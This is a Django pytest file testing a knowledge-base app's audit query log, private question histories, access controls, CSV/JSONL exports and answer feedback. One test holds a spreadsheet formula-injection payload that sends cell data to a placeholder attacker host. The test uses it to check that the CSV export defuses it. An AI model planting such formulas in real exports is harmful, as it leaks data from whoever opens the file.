"""The auditor's workspace and everyone's own history, through the pages and exports a user would open."""

import csv
import io
import json

import pytest
from asgiref.sync import async_to_sync
from django.db import connection
from django.template.loader import render_to_string
from django.test import AsyncClient
from django.urls import reverse

from kb.audit.exports import query_log_csv
from kb.audit.models import AuditEvent, QueryFeedback
from kb.audit.selectors import query_records_for_auditor
from kb.audit.services import RecordedPassage, query_feedback_create
from kb.documents.models import Chunk
from kb.documents.services import document_delete
from tests.audit.test_selectors import ask, make_auditor
from tests.factories import PASSWORD, ingested_document, make_collection, make_department, make_user

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}


@pytest.fixture
def org():
    finance = make_department("Finance")
    legal = make_department("Legal")
    return {
        "finance": finance,
        "legal": legal,
        "alice": make_user(department=finance, username="alice"),
        "bob": make_user(department=legal, username="bob"),
        "legal_admin": make_user(department=legal, admin=True, username="legal-admin"),
        "auditor": make_auditor(),
    }


def login(client, user):
    client.login(username=user.username, password=PASSWORD)
    return client


def shown(response) -> list[int]:
    return [record.pk for record in response.context["page"]]


def streamed(response) -> bytes:
    assert response.streaming
    return b"".join(response.streaming_content)


def test_query_log_lists_everyones_questions_and_filters_what_is_posted(client, org):
    alice = ask(org["alice"], "Where is the expense policy?", model="qwen3.5-9b", flags=["removed_citations"])
    bob = ask(org["bob"], "Who signs contracts?", model="smollm2-135m")
    query_feedback_create(user=org["bob"], record=bob, rating=1)
    login(client, org["auditor"])
    url = reverse("audit:queries")

    everything = client.get(url)
    assert everything.status_code == 200
    assert shown(everything) == [bob.pk, alice.pk]
    page = everything.content.decode()
    assert "Where is the expense policy?" in page and "Who signs contracts?" in page
    assert f'href="{reverse("audit:query-detail", args=[alice.pk])}"' in page

    assert shown(client.post(url, {"username": "alice"})) == [alice.pk]
    assert shown(client.post(url, {"department": "Legal"})) == [bob.pk]
    assert shown(client.post(url, {"text": "EXPENSE"})) == [alice.pk]
    assert shown(client.post(url, {"model": "smollm2-135m"})) == [bob.pk]
    assert shown(client.post(url, {"flagged": "on"})) == [alice.pk]
    assert shown(client.post(url, {"feedback": "helpful"})) == [bob.pk]
    assert shown(client.post(url, {"feedback": "none"})) == [alice.pk]
    assert shown(client.post(url, {"date_from": "2000-01-01", "date_to": "2000-12-31"})) == []


def test_query_log_pages_by_fifty_with_the_filters_in_the_body_never_in_a_url(client, org):
    for number in range(51):
        ask(org["alice"], f"Question {number}?")
    login(client, org["auditor"])

    first = client.post(reverse("audit:queries"), {"text": "question"})
    second = client.post(reverse("audit:queries"), {"text": "question", "page": 2})
    from_a_url = client.get(reverse("audit:queries"), {"text": "nothing matches this"})

    assert len(shown(first)) == 50 and len(shown(second)) == 1
    page = first.content.decode()
    # The next page and the exports are buttons of forms that post the filters shown.
    assert 'form="query-filters" name="page" value="2"' in page
    assert '<input type="hidden" name="text" value="question"' in page
    assert f'formaction="{reverse("audit:export-csv")}"' in page and "?text=" not in page
    assert len(shown(from_a_url)) == 50  # words in a URL filter nothing: a link cannot carry them


def test_an_invalid_filter_shows_nothing_rather_than_everything(client, org):
    ask(org["alice"])
    login(client, org["auditor"])

    response = client.post(reverse("audit:queries"), {"date_from": "yesterday"})

    assert response.status_code == 400
    assert shown(response) == []
    assert "Enter a valid date" in response.content.decode()


def test_the_calendars_first_and_last_days_filter_nothing_out(client, org):
    record = ask(org["alice"])
    login(client, org["alice"])

    response = client.post(reverse("audit:history"), {"date_from": "0001-01-01", "date_to": "9999-12-31"})

    assert response.status_code == 200 and shown(response) == [record.pk]


def test_a_filter_change_from_htmx_gets_only_the_results_partial(client, org):
    record = ask(org["alice"], "Partial please?")
    login(client, org["auditor"])

    response = client.post(reverse("audit:queries"), {"text": "partial"}, headers=HTMX)

    body = response.content.decode()
    assert response.status_code == 200
    assert body.lstrip().startswith('<div id="results">')
    assert f'id="query-row-{record.pk}"' in body
    assert "<html" not in body and "query-filters" not in body


def test_employee_gets_403_on_the_query_log_its_exports_and_its_records(client, org):
    record = ask(org["bob"])
    login(client, org["alice"])

    assert client.get(reverse("audit:queries")).status_code == 403
    assert client.get(reverse("audit:query-detail", args=[record.pk])).status_code == 403
    assert client.post(reverse("audit:export-csv")).status_code == 403
    assert client.post(reverse("audit:export-jsonl")).status_code == 403
    assert not AuditEvent.objects.filter(kind=AuditEvent.Kind.AUDIT_EXPORTED).exists()


def test_employee_gets_404_on_someone_elses_record_in_the_history(client, org):
    record = ask(org["bob"], "Bob's private question?")
    login(client, org["alice"])

    response = client.get(reverse("audit:history-detail", args=[record.pk]))

    assert response.status_code == 404
    assert "Bob&#x27;s private question?" not in response.content.decode()


def test_department_admin_cannot_see_the_questions_of_their_departments_members(client, org):
    member_record = ask(org["bob"], "Member question?")
    own = ask(org["legal_admin"], "Admin question?")
    login(client, org["legal_admin"])

    assert client.get(reverse("audit:queries")).status_code == 403
    assert client.get(reverse("audit:query-detail", args=[member_record.pk])).status_code == 403
    assert client.get(reverse("audit:history-detail", args=[member_record.pk])).status_code == 404
    history = client.get(reverse("audit:history"))
    assert shown(history) == [own.pk]
    assert "Member question?" not in history.content.decode()


def test_own_history_lists_only_own_questions_and_opens_them(client, org):
    mine = ask(org["alice"], "My own question?")
    ask(org["bob"], "Not mine?")
    login(client, org["alice"])

    history = client.get(reverse("audit:history"))
    detail = client.get(reverse("audit:history-detail", args=[mine.pk]))

    assert shown(history) == [mine.pk]
    assert "Not mine?" not in history.content.decode()
    assert detail.status_code == 200
    page = detail.content.decode()
    assert "My own question?" in page and "Ask your manager [1]." in page
    assert f'hx-post="{reverse("audit:feedback", args=[mine.pk])}"' in page
    # The owner's view links to the live passage (permission-checked there), not to the recorded text.
    assert "Leave is booked with your manager." not in page
    assert f'href="{reverse("search:passage", args=[11])}"' in page


def test_auditor_detail_shows_the_passages_as_recorded_after_the_document_is_deleted(client, org):
    collection = make_collection(owner=org["finance"])
    document = ingested_document(
        collection=collection,
        name="travel.md",
        content=b"# Travel\n\nTrain tickets are refunded within 30 days of the journey.",
    )
    chunk = Chunk.objects.get(document=document)
    document_id, chunk_id = document.pk, chunk.pk
    record = ask(
        org["alice"],
        "How are train tickets refunded?",
        answer="Within 30 days [1].",
        passages=[
            RecordedPassage(
                chunk_id=chunk.pk,
                document_id=document.pk,
                version_id=chunk.version_id,
                score=0.87,
                sent_to_model=True,
                text=chunk.text,
            )
        ],
    )
    assert "Train tickets are refunded within 30 days of the journey." in chunk.text
    document_delete(acting_user=make_user(department=org["finance"], admin=True), document=document)
    assert not Chunk.objects.filter(pk=chunk_id).exists()
    login(client, org["auditor"])

    response = client.get(reverse("audit:query-detail", args=[record.pk]))

    assert response.status_code == 200
    page = response.content.decode()
    assert "Train tickets are refunded within 30 days of the journey." in page
    assert f"<td>{document_id}</td>" in page and f"<td>{chunk_id}</td>" in page
    assert "How are train tickets refunded?" in page and "qwen3.5-9b" in page and "vllm" in page
    assert "&quot;enable_thinking&quot;: false" in page and "410 ms" in page and "120 prompt" in page
    assert "&quot;mode&quot;: &quot;hybrid&quot;" in page and "&quot;role&quot;: &quot;employee&quot;" in page
    # The auditor reads the record, not the documents: no link to the passage itself.
    assert reverse("search:passage", args=[chunk_id]) not in page


def test_auditor_detail_shows_thinking_flags_and_feedback_rows(client, org):
    record = ask(org["alice"], flags=["removed_citations"])
    query_feedback_create(user=org["alice"], record=record, rating=-1, comment="Cited a page I cannot open.")
    login(client, org["auditor"])

    page = client.get(reverse("audit:query-detail", args=[record.pk])).content.decode()

    assert "removed_citations" in page
    assert "Not helpful" in page and "Cited a page I cannot open." in page
    assert "Sick leave is reported by 9:00." in page


def test_detail_from_htmx_gets_the_record_partial(client, org):
    record = ask(org["alice"])
    login(client, org["auditor"])

    body = client.get(reverse("audit:query-detail", args=[record.pk]), headers=HTMX).content.decode()

    assert body.lstrip().startswith(f'<div id="query-record-{record.pk}"') and "<html" not in body


def test_csv_export_streams_the_filtered_records_and_is_audited(client, org):
    flagged = ask(org["alice"], 'Expense limit,\n"quoted"?', flags=["removed_citations"])
    ask(org["alice"], "Unflagged?")
    ask(org["bob"], "Bob flagged?", flags=["removed_citations"])
    query_feedback_create(user=org["alice"], record=flagged, rating=1)
    login(client, org["auditor"])

    response = client.post(reverse("audit:export-csv"), {"username": "alice", "flagged": "on"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="query-log-')
    rows = list(csv.DictReader(io.StringIO(streamed(response).decode())))
    assert [row["id"] for row in rows] == [str(flagged.pk)]
    row = rows[0]
    assert row["question"] == 'Expense limit,\n"quoted"?'
    assert row["username"] == "alice" and row["department_names"] == "Finance"
    assert row["passages"] == "2" and row["cited_chunk_ids"] == "11"
    assert row["flags"] == "removed_citations" and row["feedback"] == "helpful"
    event = AuditEvent.objects.get(kind=AuditEvent.Kind.AUDIT_EXPORTED)
    assert event.actor == org["auditor"]
    assert event.after["format"] == "csv"
    assert event.after["filters"] == {"username": "alice", "flagged": True}


def test_csv_export_defuses_text_a_spreadsheet_would_run_as_a_formula_and_jsonl_keeps_it(client, org):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Expenses")'
    ask(org["alice"], formula, answer="-2+3 [1]")
    ask(org["alice"], "Plain question?", answer="A plain answer.")
    login(client, org["auditor"])

    rows = list(csv.DictReader(io.StringIO(streamed(client.post(reverse("audit:export-csv"))).decode())))
    lines = streamed(client.post(reverse("audit:export-jsonl"), {"date_from": "2000-01-01"})).decode().splitlines()

    assert [(row["question"], row["answer"]) for row in rows] == [
        ("Plain question?", "A plain answer."),
        ("'" + formula, "'-2+3 [1]"),
    ]
    assert [json.loads(line)["question"] for line in lines] == ["Plain question?", formula]


def test_jsonl_export_has_each_records_passages_and_is_audited(client, org):
    record = ask(org["alice"], "Leave?")
    other = ask(org["bob"], "Contracts?")
    query_feedback_create(user=org["alice"], record=record, rating=-1, comment="Too short.")
    login(client, org["auditor"])

    response = client.post(reverse("audit:export-jsonl"), {"date_from": "2000-01-01"})

    lines = streamed(response).decode().splitlines()
    assert response["Content-Type"].startswith("application/x-ndjson")
    exported = [json.loads(line) for line in lines]
    assert [item["id"] for item in exported] == [other.pk, record.pk]
    leave = exported[1]
    assert leave["username"] == "alice" and leave["question"] == "Leave?"
    assert leave["generation_params"] == {"temperature": 0.2, "enable_thinking": False}
    assert [(p["rank"], p["chunk_id"], p["sent_to_model"], p["text"]) for p in leave["passages"]] == [
        (1, 11, True, "Leave is booked with your manager."),
        (2, 12, False, "Sick leave is reported by 9:00."),
    ]
    assert [(f["rating"], f["comment"]) for f in leave["feedback"]] == [(-1, "Too short.")]
    event = AuditEvent.objects.get(kind=AuditEvent.Kind.AUDIT_EXPORTED)
    assert event.after["format"] == "jsonl" and event.after["filters"] == {"date_from": "2000-01-01"}


def test_an_export_is_a_post_as_it_writes_to_the_audit_trail(client, org):
    login(client, org["auditor"])

    for name in ("audit:export-csv", "audit:export-jsonl"):
        assert client.get(reverse(name)).status_code == 405

    assert not AuditEvent.objects.filter(kind=AuditEvent.Kind.AUDIT_EXPORTED).exists()


def test_export_with_an_unreadable_filter_is_refused_and_not_audited(client, org):
    login(client, org["auditor"])

    response = client.post(reverse("audit:export-csv"), {"date_to": "not-a-date"})

    assert response.status_code == 400
    assert not AuditEvent.objects.filter(kind=AuditEvent.Kind.AUDIT_EXPORTED).exists()


def test_an_export_abandoned_half_way_ends_its_transaction(org):
    for number in range(4):
        ask(org["alice"], f"Long answer {number}?", answer="x" * 40_000)
    blocks_before = len(connection.atomic_blocks)

    stream = query_log_csv(query_records_for_auditor(user=org["auditor"]))
    first = next(stream)
    assert len(connection.atomic_blocks) == blocks_before + 1  # the export's own, around its server-side cursor
    stream.close()  # the client went away

    assert first.startswith(b"id,created_at,") and len(first) < 4 * 40_000
    assert len(connection.atomic_blocks) == blocks_before
    assert QueryFeedback.objects.count() == 0  # the connection still answers


def test_export_under_asgi_streams_from_an_async_iterator(org):
    """Under ASGI Django would read a synchronous iterator to the end first; the export hands it an async one."""
    records = [ask(org["alice"], f"Question {number}?") for number in range(3)]

    async def export() -> tuple[bool, bytes]:
        client = AsyncClient()
        await client.aforce_login(org["auditor"])
        response = await client.post(reverse("audit:export-jsonl"), {"username": "alice"})
        assert response.status_code == 200
        return response.is_async, b"".join([chunk async for chunk in response.streaming_content])

    is_async, body = async_to_sync(export)()

    assert is_async
    assert [json.loads(line)["id"] for line in body.decode().splitlines()] == [r.pk for r in reversed(records)]
    assert AuditEvent.objects.filter(kind=AuditEvent.Kind.AUDIT_EXPORTED, actor=org["auditor"]).count() == 1


def test_feedback_on_ones_own_answer_is_recorded_as_a_new_row(client, org):
    record = ask(org["alice"])
    login(client, org["alice"])
    url = reverse("audit:feedback", args=[record.pk])

    first = client.post(url, {"rating": "1", "comment": "  Spot on.  "}, headers=HTMX)
    second = client.post(url, {"rating": "-1"}, headers=HTMX)

    assert first.status_code == 200 and second.status_code == 200
    assert list(QueryFeedback.objects.filter(query=record).order_by("id").values_list("user", "rating", "comment")) == [
        (org["alice"].pk, 1, "Spot on."),
        (org["alice"].pk, -1, ""),
    ]
    body = second.content.decode()
    assert body.lstrip().startswith(f'<div class="feedback" id="feedback-{record.pk}">')
    assert "not helpful" in body and "<html" not in body


def test_feedback_without_htmx_goes_back_to_the_question(client, org):
    record = ask(org["alice"])
    login(client, org["alice"])

    response = client.post(reverse("audit:feedback", args=[record.pk]), {"rating": "1"})

    assert response.status_code == 302
    assert response["Location"] == reverse("audit:history-detail", args=[record.pk])
    assert "You marked this answer helpful" in client.get(response["Location"]).content.decode()


def test_feedback_on_someone_elses_answer_is_refused(client, org):
    record = ask(org["bob"])
    for user in (org["alice"], org["auditor"], org["legal_admin"]):
        login(client, user)
        assert client.post(reverse("audit:feedback", args=[record.pk]), {"rating": "1"}).status_code == 403
    assert not QueryFeedback.objects.exists()


def test_feedback_needs_a_rating(client, org):
    record = ask(org["alice"])
    login(client, org["alice"])

    response = client.post(reverse("audit:feedback", args=[record.pk]), {"rating": "5"}, headers=HTMX)

    assert response.status_code == 400
    assert not QueryFeedback.objects.exists()


def test_a_search_in_ones_history_offers_no_rating_and_refuses_one(client, org):
    search = ask(org["alice"], "leave booking", answer="", model="", channel="search")
    login(client, org["alice"])

    page = client.get(reverse("audit:history-detail", args=[search.pk])).content.decode()
    response = client.post(reverse("audit:feedback", args=[search.pk]), {"rating": "1"}, headers=HTMX)

    assert "Was this answer helpful?" not in page and "A search has no answer to rate." in page
    assert response.status_code == 400 and "A search has no answer to rate." in response.content.decode()
    assert not QueryFeedback.objects.exists()


def test_feedback_partial_renders_without_a_request_as_the_chat_answer_includes_it(org):
    record = ask(org["alice"])

    html = render_to_string("audit/feedback.html", {"record": record})

    assert f'hx-post="{reverse("audit:feedback", args=[record.pk])}"' in html
    assert 'name="rating" value="1"' in html and 'name="rating" value="-1"' in html
    assert "csrfmiddlewaretoken" not in html  # the page's hx-headers carry the token for htmx


def test_navigation_shows_the_query_log_to_auditors_only(client, org):
    login(client, org["alice"])
    employee_page = client.get(reverse("audit:history")).content.decode()
    login(client, org["auditor"])
    auditor_page = client.get(reverse("audit:history")).content.decode()

    assert f'href="{reverse("audit:history")}">My questions' in employee_page
    assert f'href="{reverse("audit:queries")}"' not in employee_page
    assert f'href="{reverse("audit:queries")}">Query log' in auditor_page
